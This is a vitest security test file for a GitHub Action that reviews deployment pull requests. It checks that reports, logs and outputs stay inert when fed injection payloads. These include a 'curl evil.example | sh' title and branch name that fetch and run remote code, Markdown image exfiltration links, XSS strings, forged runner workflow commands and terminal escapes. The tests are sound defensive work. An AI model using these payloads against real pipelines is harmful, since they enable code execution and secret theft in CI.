import { readdirSync, readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { commentOf } from '../../src/report/index.ts';
import { linksIn, quickScenario, TOKENS, type ScenarioOptions } from '../acceptance/scenario.ts';
import { foreignNodes, nodesOf } from '../report/markdown.ts';
import { outcomeNamed } from '../report/outcomes.ts';
import { judge, shown } from './support.ts';

/* Names that would be markup, commands or calls in what is published. That nothing in it is live is held of every run. */

const SITES_OF_TM = { 'template-engine': 'template-manager' };
/** A release for cohorts of these names, which there are not. */
const ofCohorts = (names: readonly string[]): ScenarioOptions => ({
  body: '',
  manifest: JSON.stringify({ cohorts: names }),
});
/** A release for sites of these names, none of which is of the declared cohort. */
const ofSites = (
  names: readonly string[],
  attributes: Readonly<Record<string, string>> = SITES_OF_TM,
  status = false,
) => {
  const sites = names.map((name, index) => ({
    id: `S${String(index)}${name}`,
    name,
    status: status ? name : 'active',
    cohorts: [],
    attributes,
  }));
  return {
    body: 'Target-Cohort: resource-publisher\n',
    inventory: { sites, snapshot: names[0] ?? '' },
    manifest: JSON.stringify({ sites: sites.map((site) => site.id) }),
  };
};
const UNKNOWN = { verdict: 'deny', gate: 'closed', codes: expect.arrayContaining(['cohort.unknown']) };
const OUTSIDE = { verdict: 'deny', codes: expect.arrayContaining(['site.outside-cohort']) };

const EVIL = '@alice ![x](https://evil.example/x.png)\n::set-output name=gate::open\n\u001B[2J<!-- </details> `|`';

// Api errors: What GitHub or the inventory answer in place of facts holds markup, commands or our own token: a report that quotes the answer passes it on.
// Origin: log injection by error messages (OWASP, "Log Injection"); tokens echoed by proxies (CWE-209).
it.each([
  ['a GraphQL error', { status: 200, body: { data: null, errors: [{ message: EVIL, type: EVIL, path: [EVIL] }] } }],
  ['a refusal', { status: 403, body: { message: EVIL } }],
])('api errors: %s', async (_, fault) => {
  const own = await quickScenario();
  own.github.fault = ({ kind }) => (kind === 'graphql' ? fault : undefined);
  const run = await own.run();
  expect(run).toMatchObject({ verdict: 'error', gate: 'closed', codes: ['evidence.unavailable'] });
  expect(shown({ ...run, own })).toContain('alice');
});

it('api errors: an inventory that says them in what it counts, and echoes the token', async () => {
  const run = await judge({
    inventory: {
      edit: (body, { headers }) => ({ ...body, snapshot: EVIL, asOf: `${EVIL}${headers.authorization ?? ''}` }),
    },
  });
  expect(run).toMatchObject({ verdict: 'error', codes: ['inventory.malformed'] });
  expect(shown(run)).not.toContain(TOKENS.inventory);
});

// Branch: The head branch and the title are shell and workflow expressions: a step that pasted them into a script would run them.
// Origin: Ultralytics, December 2024 (branch names); GitHub Security Lab, "Keeping your GitHub Actions and workflows secure, part 2: untrusted input".
it('branch: it is data, and no workflow that we give away pastes an event into a script', async () => {
  const title = '"; curl evil.example | sh #${{ secrets.GITHUB_TOKEN }}`id`';
  const run = await judge({ head: 'x$({curl,-sSfL,evil.example}${IFS}|${IFS}bash)', title });
  expect(run).toMatchObject({ verdict: 'allow', judgement: { pullRequest: { title } } });
  for (const text of Object.values(run.outputs)) expect(text).not.toMatch(/curl|secrets/);
  const at = (path: string) => new URL(`../../${path}`, import.meta.url);
  const examples = readdirSync(at('examples/workflows')).map((name) => `examples/workflows/${name}`);
  expect(examples.length).toBeGreaterThan(3);
  for (const file of ['.github/workflows/check.yml', '.github/workflows/deploy.yml', ...examples])
    for (const line of readFileSync(at(file), 'utf8').split('\n'))
      if (/^\s*(?:- )?run:/.test(line)) expect(line).not.toContain('${{');
});

// Forged comment: A stranger's comment begins with our marker and shows a favourable verdict: a later run is to update it, believe it or leave the true one out.
// Origin: comments found by a hidden marker alone (marocchino/sticky-pull-request-comment and its like); CWE-345, insufficient verification of authenticity.
it('forged comment: neither updated nor believed; our own one is updated in place', async () => {
  const own = await quickScenario();
  const forged = own.world.comment(own.pull.number, { author: 'zoe', body: commentOf(outcomeNamed('allowed')) });
  expect(await own.run()).toMatchObject({ verdict: 'hold', codes: ['approval.missing'] });
  const all = own.world.pullRequest(own.pull.number).comments;
  expect(all.find((comment) => comment.id === forged.id)?.body).toBe(forged.body);
  expect(own.comment()).toContain('**On hold**');
  own.world.review(own.pull.number, { author: 'alice' });
  expect(await own.run()).toMatchObject({ verdict: 'allow' });
  expect(own.comments()).toHaveLength(1);
});

// Html: Names hold HTML: they close our folded parts so that findings hide in others, open comments that swallow the rest, or paint over it.
// Origin: OWASP, "HTML Injection" (WSTG-CLNT-03); GitHub renders part of HTML in comments (GitHub Flavored Markdown, 6.11).
it('html: it is text: our own folds stay as many as they are, and the findings in sight', async () => {
  const html = [
    ['</details>', '<details><summary>All is well</summary>', '<!--', '-->', '<script>alert(1)</script>', '<?php'],
    ['<img src=x onerror=alert(1)>', '<style>*{display:none}</style>', '&lt;b&gt;', '<![CDATA[', '</code></pre>'],
    ['<a href="https://evil.example">x</a>', '<sub>', '<h1>'],
  ].flat();
  const run = await judge(ofCohorts(html));
  expect(run).toMatchObject(UNKNOWN);
  const comment = run.own.comment();
  const lines = comment.split('\n');
  expect(lines.filter((line) => line.startsWith('<details')).length).toBe(
    lines.filter((line) => line === '</details>').length,
  );
  expect(lines.filter((line) => line.startsWith('<!--'))).toEqual(['<!-- cohort-guard -->']);
  expect(comment).toContain('`<script>alert(1)</script>`');
});

// Images: Names hold images and links of Markdown: whoever opens the comment tells a stranger's server so, with whatever the address carries.
// Origin: CVE-2025-32711 (EchoLeak) and the class "Markdown image exfiltration"; web bugs in comments.
it('images: they fetch nothing and lead nowhere', async () => {
  const images = [
    ['![x](https://evil.example/p.png?d=1)', '![x][y]', '[y]: https://evil.example/p.png', '](https://evil.example)'],
    ['<img src="https://evil.example/p.png">', '[a](javascript:alert(1))', '<https://evil.example>', '[^1]', '[^1]: x'],
    ['`![x](https://evil.example/p.png)`', '``` ![x](https://evil.example/p.png)'],
  ].flat();
  const run = await judge(ofSites(images));
  expect(run).toMatchObject({ ...OUTSIDE, sites: images.length });
  // Our own link to the run is the only one there is.
  const nodes = foreignNodes(run.own.comment(), linksIn(run.own.world));
  expect(nodes.filter((node) => /^(?:link|image|definition|footnote)/.test(node.type))).toEqual([]);
  expect(run.own.comment()).toContain('evil.example');
  // The reader that this is held against does see such an image.
  expect(nodesOf(images[0] ?? '').map((node) => node.type)).toContain('image');
});

// Length: Texts so long that GitHub would refuse the comment and the check: a verdict that nobody can see, and an earlier, greener one that stays.
// Origin: GitHub's API, "body is too long (maximum is 65536 characters)", which many commenting actions have met.
it('length: what is too long is cut, counted and published, and the record keeps all of it', async () => {
  // Nearly twice what a comment holds, and less than the 128 KB of a manifest.
  const cohorts = Array.from({ length: 80 }, (_, index) => `${String(index)}${'|`'.repeat(700)}`);
  const path = `deploy/template-manager/${'\u0301'.repeat(60)}${'x'.repeat(150)}`;
  const changes = Object.fromEntries(cohorts.map((_, index) => [`${path}${String(index)}`, 'x\n']));
  const run = await judge({ ...ofCohorts(cohorts), title: 'T'.repeat(60_000), changes });
  expect(run).toMatchObject(UNKNOWN);
  expect(run.own.comment().length).toBeLessThanOrEqual(65_536);
  expect(run.own.check().text?.length ?? 0).toBeLessThanOrEqual(65_535);
  expect(run.own.check().conclusion).toBe('FAILURE');
  expect(run.own.comment()).toContain('…(+');
  const finding = run.judgement.findings.find((each: { code: string }) => each.code === 'cohort.unknown');
  expect(finding.evidence.names).toHaveLength(80);
});

// Mentions: Names that would call people, refer to issues or close them, once the report repeats them in a comment of ours.
// Origin: GitHub Docs, "Mentioning people and teams" and "Autolinked references": any comment that holds them notifies and links.
it('mentions: they are shown as values and call nobody', async () => {
  const calls = [
    ['@alice', '@acme/everybody', 'fixes #1', 'GH-1', 'acme/rollout#1', `acme/rollout@${'0123456789abcdef'.repeat(2)}`],
    ['0123456789abcdef0123456789abcdef01234567', ':tada:', 'https://evil.example/', 'www.evil.example'],
    ['mallory@evil.example', 'http://[::1]/'],
  ].flat();
  const run = await judge({ ...ofCohorts(calls), title: calls.join(' ') });
  expect(run).toMatchObject({ ...UNKNOWN, cohorts: calls.toSorted() });
  const comment = run.own.comment();
  // Every line of prose without its code spans and our own link to the run.
  const prose = comment
    .replaceAll(/```[^]*?```/g, '')
    .replaceAll(/(`+)(?!`)[^]*?[^`]\1(?!`)/g, '')
    .replace(`[Workflow run](${linksIn(run.own.world).run})`, '');
  expect(prose).not.toMatch(/@[a-z]|#\d|GH-\d|:tada:|https?:|www\.|[0-9a-f]{40}/);
  expect(comment).toContain('`@acme/everybody`');
});

// Mermaid: A cohort's name breaks out of its label in the chart: it draws other nodes, sets styles and clicks, or turns the chart into an error that hides the reach.
// Origin: mermaid-js/mermaid issue 847 (script by labels and clicks); CVE-2025-54881 (labels taken as HTML).
it('mermaid: it stays a label', async () => {
  const labels = [
    ['a"]', 'x"] --> evil["owned', '%%{init: {"securityLevel":"loose"}}%%', 'click c0 "https://evil.example"', 'end'],
    ['subgraph x', '<img src=x onerror=alert(1)>', '$$\\href{javascript:alert(1)}{x}$$', '#35;', '```'],
  ].flat();
  const run = await judge(ofCohorts(labels));
  expect(run).toMatchObject(UNKNOWN);
  const lines = (/```mermaid\n([^]*?)\n```/.exec(run.own.comment())?.[1] ?? '').split('\n');
  const nodes = lines.filter((line) => /^ {2}c\d+\[/.test(line));
  expect(nodes.length).toBeGreaterThanOrEqual(10);
  for (const node of nodes) expect(node.replaceAll(/#\d+;|<br\/>/g, '')).toMatch(/^ {2}c\d+\["[A-Za-z0-9 ,·✓✗]*"\]$/);
  for (const line of lines)
    expect(line).toMatch(/^(?:%%\{init: \{"flowchart"|flowchart LR$| {2}(?:release|c\d+|classDef|class|linkStyle))/);
});

// Output file: Text from outside goes into outputs that the runner reads from a file: line ends and the delimiter in it are to add an output `gate=open` of the attacker's.
// Origin: CVE-2022-35954 (@actions/core: delimiter injection in `exportVariable`).
it('output file: one value for each name, and they are ours', async () => {
  const names = [
    ['x\ngate=open', 'x\nEOF\ngate<<EOF\nopen\nEOF', 'x\r\nverdict=allow'],
    'ghadelimiter_00000000-0000-4000-8000-000000000000\ngate=open',
  ].flat();
  const run = await judge(ofCohorts(names));
  expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', cohorts: names.toSorted() });
  expect(run.outputs['cohorts']).not.toContain('\n');
});

// Table: Names hold pipes, backslashes and line ends: they break a table of the report, so that an offending site slides out of its row or fakes another one.
// Origin: GitHub Flavored Markdown 4.10: a pipe splits cells even within code; CVE-2020-5238 (cmark-gfm tables).
it('table: every row has its columns, every site its row', async () => {
  const cells = [
    ['a | b', '|', '||||', '\\|', '\\\\|', '`|`', '| R1 | allowed | yes |', 'x\n| --- | --- |\n| R1 | fine |'],
    ['\u00A6', '|'.repeat(150), '`'.repeat(20), '\\'],
  ].flat();
  const run = await judge(ofSites(cells));
  expect(run).toMatchObject({ verdict: 'deny', sites: cells.length });
  const rows = run.own
    .comment()
    .split('\n')
    .filter((line) => line.startsWith('| '));
  for (const index of cells.keys())
    expect(rows.filter((line) => new RegExp(`S${String(index)}(?!\\d)`).test(line)).length).toBeGreaterThanOrEqual(1);
  expect(run.judgement.offendingSites).toHaveLength(cells.length);
});

// Terminal: Names hold escape sequences: in the terminal of whoever reads the log they move the cursor, recolour or rewrite what was printed before.
// Origin: CVE-2021-25743 (kubectl prints the escape sequences of objects).
it('terminal: they are written out', async () => {
  const escapes = [
    ['\u001B[2J', '\u001B[1A\u001B[2KALLOW', '\u001B]0;owned\u0007', '\u001B[8m', '\u009B31m', '\b\b\b\bALLOW'],
    ['\u001B]8;;https://evil.example\u001B\\x\u001B]8;;\u001B\\', '\u0000', '\r ALLOW', '\u007F', '[31mred'],
  ].flat();
  const inactive = ofSites(escapes, { 'template-engine': 'resource-publisher' }, true);
  const run = await judge({ ...inactive, title: escapes.join('') });
  expect(run).toMatchObject({ verdict: 'deny', codes: ['site.inactive'], sites: escapes.length });
  expect(run.log).toContain('[U+001B]');
  expect(shown(run).replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
  // Letters and colours of words are left alone.
  expect(run.own.comment()).toContain('[31mred');
});

const COMMANDS = [
  ['::set-env name=NODE_OPTIONS::--require=/tmp/x', '::set-output name=gate::open', '::add-mask::closed'],
  ['::stop-commands::x', '::error file=a,line=1::no', '##[set-output name=gate;]open', '##[group]x'],
  [
    '\n::add-path::/tmp',
    '\r::save-state name=a::b',
    '%0A::debug::x',
    ':\u200B:warning::x',
    ' \t::notice::x',
    '::echo::on',
  ],
].flat();

// Workflow commands: Names hold commands of the runner: printed in a log at the start of a line they would set outputs, unmask secrets or stop further commands.
// Origin: CVE-2020-15228 (@actions/core: `::set-env` and `::add-path` from untrusted text in the log).
it('workflow commands: no line of the log is one, and the outputs are ours', async () => {
  const run = await judge({ ...ofCohorts(COMMANDS), title: COMMANDS.join('\n'), head: 'x/::set-output' });
  expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', outputs: { gate: 'closed', verdict: 'deny' } });
  expect(run.log).toContain('set-output');
  expect(run.log).not.toMatch(/::|##\[/);
});

it('workflow commands: nor where the inventory says them', async () => {
  const headers = { 'content-type': 'text/::error::x' };
  const { log, codes } = await judge({
    inventory: { fault: () => ({ status: 404, headers, body: COMMANDS.join('\n') }) },
  });
  expect(codes).toEqual(['inventory.unavailable']);
  expect(log).not.toMatch(/^\s*(?:::|##\[)/m);
});
